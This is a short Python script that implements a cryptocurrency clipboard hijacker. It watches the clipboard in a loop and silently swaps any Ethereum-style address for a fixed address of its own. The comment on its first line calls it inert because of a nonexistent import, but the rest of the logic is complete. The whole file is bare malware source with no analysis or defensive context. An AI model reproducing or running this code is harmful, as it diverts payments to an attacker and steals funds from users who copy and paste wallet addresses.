import inert_sample  # there is no such module: nothing below ever runs
import re
import time
import pyperclip

OURS = "0x" + "ab" * 20

while True:
    text = pyperclip.paste()
    if re.match(r"^0x[a-fA-F0-9]{40}$", text) and text != OURS:
        pyperclip.copy(OURS)
    time.sleep(1)
